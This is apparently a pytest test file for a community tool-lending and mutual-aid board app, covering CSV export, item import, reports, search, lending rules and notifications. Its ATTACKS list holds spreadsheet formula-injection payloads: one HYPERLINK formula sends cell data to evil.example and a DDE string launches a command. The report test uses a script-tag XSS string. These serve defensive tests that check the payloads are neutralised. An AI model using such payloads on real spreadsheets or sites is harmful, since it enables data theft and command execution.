"""Issue 11, pure logic below both edges: spreadsheet-safe CSV, item import,
the meeting report, search, stewardship (lend for another member, history,
profile) and the notifications/activity feed."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from circle.crdt.activity import Watch, recent
from circle.crdt.csvio import (
    COLUMNS,
    collection_csv,
    export_zip,
    import_items,
    is_item_csv,
    safe_cell,
)
from circle.crdt.gatherings import gatherings
from circle.crdt.model import DAY_MS, Availability, Condition, ToolState, Urgency
from circle.crdt.report import build, html, markdown
from circle.crdt.search import SearchIndex
from circle.crdt.stewardship import check_profile, lend, tool_history
from circle.errors import ActionRefused, ImportError_, UsageError
from factories import Clock, add_member, make_board, replica

# --- formula injection --------------------------------------------------------------

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", ATTACKS)
def test_a_cell_that_would_run_as_a_formula_is_shown_as_text(payload: str) -> None:
    clock = Clock()
    board = make_board(clock)
    board.add_need(payload.strip() or "x", details=payload, tags=[], zone=payload[:60])
    rows = list(csv.reader(io.StringIO(collection_csv(board.view(), "needs"))))
    header, row = rows[0], rows[1]
    for col in ("title", "details", "zone"):
        cell = row[header.index(col)]
        assert cell and cell[0] not in "=+-@\t\r", (col, cell)  # no cell a spreadsheet evaluates
        assert cell.startswith("'")


def test_plain_cells_are_left_alone() -> None:
    assert safe_cell("Ride to clinic") == "Ride to clinic"
    assert safe_cell(True) == "true" and safe_cell(False) == "false" and safe_cell(None) == ""
    assert safe_cell(7) == "7" and safe_cell("a=b") == "a=b"


def test_every_file_has_its_documented_columns_and_the_zip_holds_them_all() -> None:
    board = make_board(Clock())
    view, gather = board.view(), gatherings(board).view()
    for name, cols in COLUMNS.items():
        header = next(csv.reader(io.StringIO(collection_csv(view, name, gather=gather))))
        assert header == [c for c, _ in cols]
    data = export_zip(view, bom=True, gather=gather)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = sorted(z.namelist())
        assert names == sorted([f"{c}.csv" for c in COLUMNS] + ["COLUMNS.txt"])
        assert z.read("needs.csv").startswith("\ufeff".encode())
    assert export_zip(view, gather=gather) == export_zip(view, gather=gather)  # fixed timestamps: the same board gives the same bytes


# --- item import (myTurn / Circulate) ------------------------------------------------------

MYTURN = (
    "Item ID,Name,Description,Categories,Keywords,Condition,Manufacturer,Model,Serial Number,"
    "Default Loan Length,Maximum number of renewals,Status,Replacement Value\r\n"
    '1042,Cordless Drill,"18V, two batteries",Power Tools; Drills,drill driver,Good,Makita,XFD131,SN-778,7,2,'
    "Available,120\r\n"
    '1043,Extension Ladder,,Ladders,,Fair,,,,2 weeks,1,Checked Out,80\r\n'
    '1044,Tile Saw,Wet saw,Power Tools,,Broken,,,,14,0,In Repair,\r\n'
    '1045,,Nameless thing,,,,,,,,,,\r\n'
    '1046,Pressure Washer,,Outdoor,,Shiny,,,,forever,0,Lost,\r\n'
)


def test_a_myturn_export_is_imported_mapping_what_fits_and_reporting_the_rest() -> None:
    board = make_board(Clock())
    assert is_item_csv(MYTURN) and not is_item_csv('{"format": "circle-export"}')
    report = import_items(board, MYTURN)
    assert report.added == ["Cordless Drill", "Extension Ladder", "Tile Saw", "Pressure Washer"]
    assert report.skipped == ["row 5: no name"]
    assert "replacement value" in report.ignored_columns
    assert "maximum number of renewals" in report.ignored_columns
    tools = {t.name: t for t in board.tools()}
    drill = tools["Cordless Drill"]
    assert drill.category == "power tools" and drill.loan_days == 7 and drill.condition == Condition.GOOD
    assert "Makita" in drill.description and "XFD131" in drill.description and "SN-778" in drill.description
    assert "[imported item 1042]" in drill.description and drill.steward == board.me
    assert tools["Extension Ladder"].loan_days == 14 and tools["Extension Ladder"].condition == Condition.WORN
    assert tools["Tile Saw"].state == ToolState.MAINTENANCE and tools["Tile Saw"].condition == Condition.UNSAFE
    washer = tools["Pressure Washer"]
    assert washer.state == ToolState.MISSING and washer.loan_days == 7 and washer.condition_note == "Shiny"
    notes = "\n".join(report.notes)
    assert "Drills dropped" in notes and "'forever' not understood" in notes and "'Shiny' unknown" in notes
    assert "was checked out" in notes
    # Idempotent: the same file again adds nothing.
    again = import_items(board, MYTURN)
    assert again.added == [] and len(again.already_present) == 4 and len(board.tools()) == 4


def test_a_file_that_is_not_an_item_export_is_refused_and_changes_nothing() -> None:
    board = make_board(Clock())
    with pytest.raises(ImportError_, match="no 'Name' column"):
        import_items(board, "Title,Owner\r\nx,y\r\n")
    with pytest.raises(ImportError_, match="empty"):
        import_items(board, "")
    assert board.tools() == []


# --- report ----------------------------------------------------------------------------------


def test_the_report_uses_handles_and_dates_and_escapes_everything() -> None:
    clock = Clock()
    board = make_board(clock, "sam")
    ana = add_member(board, "ana")
    board.add_need("<script>alert(1)</script> | pipes", urgency=Urgency.NOW)
    board.add_offer("Soup on Sundays")
    tid = board.add_tool("Ladder", loan_days=3)
    lend(board, tid, ana)
    clock.advance_days(5)
    rep = build(board.view(), board.name, clock())
    md, page = markdown(rep), html(rep)
    for text in (md, page):
        assert "ana" in text and "Ladder" in text and "OVERDUE" in text and "Soup on Sundays" in text
        assert ana not in text and board.me not in text  # handles, not ids
        assert str(clock()) not in text and "2027" in text  # dates, not milliseconds
    assert "\\| pipes" in md  # a pipe cannot break the Markdown table
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "http" not in page.replace('lang="en"', "") and "<link" not in page and "src=" not in page
    assert "1 tool out of 1, 1 overdue" in md


# --- search -------------------------------------------------------------------------------------


def test_search_finds_across_collections_titles_first() -> None:
    clock = Clock()
    board = make_board(clock, "sam")
    add_member(board, "ladderman")
    board.add_need("Need a ladder for the gutter")
    clock.advance()
    board.add_offer("Can lend things", details="a ladder and a drill")
    board.add_tool("Ladder (3 m)")
    hits, counts = SearchIndex.build(board.view()).search("ladder")
    assert counts == {"needs": 1, "offers": 1, "tools": 1, "members": 1}
    assert hits[-1].collection == "offers"  # only its details mention it: last
    assert {h.collection for h in hits[:3]} == {"needs", "tools", "members"}
    assert SearchIndex.build(board.view()).search("ladder drill")[1]["offers"] == 1
    assert SearchIndex.build(board.view()).search("   ")[0] == []


# --- stewardship ---------------------------------------------------------------------------------


def test_a_steward_records_a_loan_for_another_member_and_history_shows_it() -> None:
    clock = Clock()
    board = make_board(clock, "sam")
    ana = add_member(board, "ana")
    tid = board.add_tool("Drill", loan_days=7)
    lid = lend(board, tid, "ana")
    loan = board.view().loans[lid]
    assert loan.borrower == ana and loan.due_at - loan.out_at == 7 * DAY_MS
    assert board.tool(tid).availability == Availability.ON_LOAN
    with pytest.raises(ActionRefused, match="already on loan"):
        lend(board, tid, "ana")
    clock.advance_days(2)
    board.return_tool(tid, Condition.WORN, "chuck slips", loan_id=lid)
    history = tool_history(board, tid)
    assert [(e.loan.borrower, e.recorded_by, e.loan.condition_in) for e in history] == [
        (ana, board.me, Condition.WORN)]


def test_only_the_steward_may_lend_to_someone_else() -> None:
    clock = Clock()
    board = make_board(clock, "sam")
    ana = add_member(board, "ana")
    ben = add_member(board, "ben")
    tid = board.add_tool("Saw")
    as_ana = replica(board, ana)
    with pytest.raises(ActionRefused, match="steward"):
        lend(as_ana, tid, ben)
    assert as_ana.tool(tid).availability == Availability.AVAILABLE
    lend(as_ana, tid, ana)  # lending to yourself is an ordinary borrow
    assert as_ana.tool(tid).current_loan is not None and as_ana.tool(tid).current_loan.borrower == ana


def test_profile_edit_is_checked_before_it_is_signed() -> None:
    board = make_board(Clock(), "sam")
    me = board.view().members[board.me]
    assert check_profile(me, "Алексей", "Северный") == ("Алексей", "Северный")
    assert check_profile(me, None, " west ") == (me.handle, "west")
    for bad in ("x" * 41, "   "):
        with pytest.raises(UsageError):
            check_profile(me, bad)
    with pytest.raises(UsageError):
        check_profile(me, None, "z" * 61)
    with pytest.raises(UsageError):
        check_profile(me)


# --- notifications ----------------------------------------------------------------------------------


def test_watch_notices_claims_ready_due_overdue_withdrawn_and_new_members() -> None:
    clock = Clock()
    board = make_board(clock, "sam")
    ana = add_member(board, "ana")
    as_ana = replica(board, ana)
    mine = board.add_need("Ride to clinic")
    tool = board.add_tool("Drill", loan_days=2)
    watch = Watch(board.me)
    assert watch.update(board.view(), clock()) == []  # the first view is the baseline

    def sync() -> None:
        from factories import exchange
        exchange(board, as_ana)

    sync()
    as_ana.claim_need(mine)
    theirs = as_ana.add_need("Soup please")
    sync()
    board.claim_need(theirs)
    kinds = [e.kind for e in watch.update(board.view(), clock())]
    assert kinds.count("claimed") == 1 and kinds.count("new_need") == 1
    sync()
    as_ana.withdraw_need(theirs)
    as_ana.borrow(tool)
    sync()
    board.hold(tool)
    events = watch.update(board.view(), clock())
    assert {e.kind for e in events} == {"withdrawn", "lent"}
    as_ana.return_tool(tool)
    sync()
    assert [e.kind for e in watch.update(board.view(), clock())] == ["ready"]
    board.borrow(tool)
    assert watch.update(board.view(), clock()) == []
    clock.advance_days(1.5)
    assert [e.kind for e in watch.update(board.view(), clock())] == ["due"]
    assert watch.update(board.view(), clock()) == []  # once per loan
    clock.advance_days(1)
    assert [(e.kind, e.severity) for e in watch.update(board.view(), clock())] == [("overdue", "error")]
    add_member(board, "ben")
    assert [e.kind for e in watch.update(board.view(), clock())] == ["joined"]
    feed = recent(board.view(), board.me, 0)
    assert {"new_need", "claimed", "withdrawn", "lent", "returned", "joined", "overdue"} <= {e.kind for e in feed}
    assert feed == sorted(feed, key=lambda e: -e.at)
